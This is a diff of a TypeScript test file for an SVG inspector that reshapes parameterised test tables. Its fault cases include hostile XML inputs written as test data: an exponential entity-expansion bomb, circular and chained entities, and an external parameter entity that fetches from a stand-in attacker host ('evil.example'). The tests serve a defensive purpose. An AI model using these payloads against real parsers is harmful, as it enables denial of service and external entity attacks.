@@ -86,14 +86,22 @@ describe('an SVG', () => {
 
   const ENTITIES =
     '<!DOCTYPE svg [<!ENTITY ns "http://www.w3.org/2000/svg"><!ENTITY two "&one;&one;"><!ENTITY one \'x\'>]>';
-  test.each<[string, string, object]>([
-    ['for a namespace', `${ENTITIES}<svg xmlns="&ns;" width="3"/>`, { width: 3, fault: null }],
-    ['nested', `${ENTITIES}${svg('<text>&two;</text>')}`, { fault: null }],
-    ['not used', `${ENTITIES}${svg('')}`, { fault: null }],
-    ['not declared', `${ENTITIES}${svg('&three;')}`, { fault: { code: 'syntax' } }],
-    ['the first one binds', `<!DOCTYPE svg [<!ENTITY a "x"><!ENTITY a "<g">]>${svg('&a;')}`, { fault: null }],
-    ['of another file, which is not loaded', `<!DOCTYPE svg [<!ENTITY a SYSTEM "x">]>${svg('&a;')}`, { fault: null }],
-  ])('may have entities %s', (_, text, expected) => {
+  test.each<{ name: string; text: string; expected: object }>([
+    { name: 'for a namespace', text: `${ENTITIES}<svg xmlns="&ns;" width="3"/>`, expected: { width: 3, fault: null } },
+    { name: 'nested', text: `${ENTITIES}${svg('<text>&two;</text>')}`, expected: { fault: null } },
+    { name: 'not used', text: `${ENTITIES}${svg('')}`, expected: { fault: null } },
+    { name: 'not declared', text: `${ENTITIES}${svg('&three;')}`, expected: { fault: { code: 'syntax' } } },
+    {
+      name: 'the first one binds',
+      text: `<!DOCTYPE svg [<!ENTITY a "x"><!ENTITY a "<g">]>${svg('&a;')}`,
+      expected: { fault: null },
+    },
+    {
+      name: 'of another file, which is not loaded',
+      text: `<!DOCTYPE svg [<!ENTITY a SYSTEM "x">]>${svg('&a;')}`,
+      expected: { fault: null },
+    },
+  ])('may have entities $name', ({ text, expected }) => {
     expect(look(text)).toMatchObject({ kind: 'svg', ...expected });
   });
 
@@ -102,50 +110,62 @@ describe('an SVG', () => {
     expect(look(text).active.map(({ code }) => code)).toEqual(['doctype', 'script']);
   });
 
-  test.each<[string, string | Buffer, string]>([
-    ['no namespace', '<svg width="1" height="1"><path d=""/></svg>', 'no-namespace'],
-    ['another namespace', '<svg xmlns="http://www.w3.org/2000/SVG"/>', 'wrong-namespace'],
-    ['an element that is not closed', `<svg ${NS}><g></svg>`, 'syntax'],
-    ['cut in the middle', svg('<path d="M0 0"/>').slice(0, -10), 'syntax'],
-    ['an entity of HTML', svg('<text>a&nbsp;b</text>'), 'syntax'],
-    ['an ampersand by itself', svg('<text>a & b</text>'), 'syntax'],
-    ['an attribute without quotes', `<svg ${NS} width=1/>`, 'syntax'],
-    ['an attribute twice', `<svg ${NS} width="1" width="2"/>`, 'syntax'],
-    ['a prefix that is not declared', `<svg ${NS}><use xlink:href="#a"/></svg>`, 'syntax'],
-    ['space in front of the XML declaration', ` <?xml version="1.0"?>${svg('')}`, 'syntax'],
-    ['two roots', `${svg('')}${svg('')}`, 'syntax'],
-    ['Latin-1 without a declaration', Buffer.from(svg('<title>größe</title>'), 'latin1'), 'encoding'],
-    [
-      'Latin-1 declared as UTF-8',
-      Buffer.from(`<?xml version="1.0" encoding="utf-8"?>${svg('ß')}`, 'latin1'),
-      'encoding',
-    ],
-    ['an unknown encoding', `<?xml version="1.0" encoding="x-klingon"?>${svg('')}`, 'encoding'],
-    ['entities in a circle', `<!DOCTYPE svg [<!ENTITY a "&b;"><!ENTITY b "&a;">]>${svg('&a;')}`, 'entities'],
-    [
-      'entities that grow without bounds',
-      `<!DOCTYPE svg [<!ENTITY a0 "lol">${Array.from({ length: 40 }, (_, i) => `<!ENTITY a${i + 1} "&a${i};&a${i};">`).join('')}]>${svg('&a40;')}`,
-      'entities',
-    ],
-    [
-      'very many entities',
-      `<!DOCTYPE svg [${Array.from({ length: 20_000 }, (_, i) => `<!ENTITY a${i} "&a${i + 1};">`).join('')}]>${svg('&a0;')}`,
-      'entities',
-    ],
-    ['a namespace with a space in it', `<svg xmlns=" http://www.w3.org/2000/svg"/>`, 'wrong-namespace'],
-    [
-      'entities from elsewhere',
-      `<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>${svg('')}`,
-      'entities',
-    ],
-    ['deep nesting', `<svg ${NS}>${'<g>'.repeat(300)}`, 'too-complex'],
-    [
-      'very many attributes',
-      `<svg ${NS} ${Array.from({ length: 3000 }, (_, i) => `a${i}=""`).join(' ')}/>`,
-      'too-complex',
-    ],
-    ['very many bytes', svg(' '.repeat(5 * 2 ** 20)), 'not-read'],
-  ])('has a fault: %s', (_, text, code) => {
+  test.each<{ name: string; text: string | Buffer; code: string }>([
+    { name: 'no namespace', text: '<svg width="1" height="1"><path d=""/></svg>', code: 'no-namespace' },
+    { name: 'another namespace', text: '<svg xmlns="http://www.w3.org/2000/SVG"/>', code: 'wrong-namespace' },
+    { name: 'an element that is not closed', text: `<svg ${NS}><g></svg>`, code: 'syntax' },
+    { name: 'cut in the middle', text: svg('<path d="M0 0"/>').slice(0, -10), code: 'syntax' },
+    { name: 'an entity of HTML', text: svg('<text>a&nbsp;b</text>'), code: 'syntax' },
+    { name: 'an ampersand by itself', text: svg('<text>a & b</text>'), code: 'syntax' },
+    { name: 'an attribute without quotes', text: `<svg ${NS} width=1/>`, code: 'syntax' },
+    { name: 'an attribute twice', text: `<svg ${NS} width="1" width="2"/>`, code: 'syntax' },
+    { name: 'a prefix that is not declared', text: `<svg ${NS}><use xlink:href="#a"/></svg>`, code: 'syntax' },
+    { name: 'space in front of the XML declaration', text: ` <?xml version="1.0"?>${svg('')}`, code: 'syntax' },
+    { name: 'two roots', text: `${svg('')}${svg('')}`, code: 'syntax' },
+    {
+      name: 'Latin-1 without a declaration',
+      text: Buffer.from(svg('<title>größe</title>'), 'latin1'),
+      code: 'encoding',
+    },
+    {
+      name: 'Latin-1 declared as UTF-8',
+      text: Buffer.from(`<?xml version="1.0" encoding="utf-8"?>${svg('ß')}`, 'latin1'),
+      code: 'encoding',
+    },
+    { name: 'an unknown encoding', text: `<?xml version="1.0" encoding="x-klingon"?>${svg('')}`, code: 'encoding' },
+    {
+      name: 'entities in a circle',
+      text: `<!DOCTYPE svg [<!ENTITY a "&b;"><!ENTITY b "&a;">]>${svg('&a;')}`,
+      code: 'entities',
+    },
+    {
+      name: 'entities that grow without bounds',
+      text: `<!DOCTYPE svg [<!ENTITY a0 "lol">${Array.from({ length: 40 }, (_, i) => `<!ENTITY a${i + 1} "&a${i};&a${i};">`).join('')}]>${svg('&a40;')}`,
+      code: 'entities',
+    },
+    {
+      name: 'very many entities',
+      text: `<!DOCTYPE svg [${Array.from({ length: 20_000 }, (_, i) => `<!ENTITY a${i} "&a${i + 1};">`).join('')}]>${svg('&a0;')}`,
+      code: 'entities',
+    },
+    {
+      name: 'a namespace with a space in it',
+      text: `<svg xmlns=" http://www.w3.org/2000/svg"/>`,
+      code: 'wrong-namespace',
+    },
+    {
+      name: 'entities from elsewhere',
+      text: `<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>${svg('')}`,
+      code: 'entities',
+    },
+    { name: 'deep nesting', text: `<svg ${NS}>${'<g>'.repeat(300)}`, code: 'too-complex' },
+    {
+      name: 'very many attributes',
+      text: `<svg ${NS} ${Array.from({ length: 3000 }, (_, i) => `a${i}=""`).join(' ')}/>`,
+      code: 'too-complex',
+    },
+    { name: 'very many bytes', text: svg(' '.repeat(5 * 2 ** 20)), code: 'not-read' },
+  ])('has a fault: $name', ({ text, code }) => {
     expect(inspectImage(Buffer.from(text as string))).toMatchObject({ kind: 'svg', fault: { code } });
   });
 
@@ -263,18 +283,18 @@ describe('an SVG', () => {
     expect(look(svg('<script/>'.repeat(500))).active).toHaveLength(100);
   });
 
-  test.each<[string, number | null, number | null]>([
-    ['width="24" height="32.5"', 24, 32.5],
-    ['width="24px" height="1in"', 24, 96],
-    ['viewBox="0 0 48 36"', 48, 36],
-    ['viewBox="0,0,48,36" width="100%"', 48, 36],
-    ['viewBox="0 0 48 36" width="12"', 12, 36],
-    ['width="10mm" height="10pt"', 37.795, 13.333],
-    ['width="1em" height="auto"', null, null],
-    ['', null, null],
-    ['viewBox="a b c d"', null, null],
-    ['width="0" height="1e2"', 0, 100],
-  ])('has the size of %s', (attributes, width, height) => {
+  test.each<{ attributes: string; width: number | null; height: number | null }>([
+    { attributes: 'width="24" height="32.5"', width: 24, height: 32.5 },
+    { attributes: 'width="24px" height="1in"', width: 24, height: 96 },
+    { attributes: 'viewBox="0 0 48 36"', width: 48, height: 36 },
+    { attributes: 'viewBox="0,0,48,36" width="100%"', width: 48, height: 36 },
+    { attributes: 'viewBox="0 0 48 36" width="12"', width: 12, height: 36 },
+    { attributes: 'width="10mm" height="10pt"', width: 37.795, height: 13.333 },
+    { attributes: 'width="1em" height="auto"', width: null, height: null },
+    { attributes: '', width: null, height: null },
+    { attributes: 'viewBox="a b c d"', width: null, height: null },
+    { attributes: 'width="0" height="1e2"', width: 0, height: 100 },
+  ])('has the size of $attributes', ({ attributes, width, height }) => {
     expect(look(svg('', attributes))).toMatchObject({ width, height });
   });
 
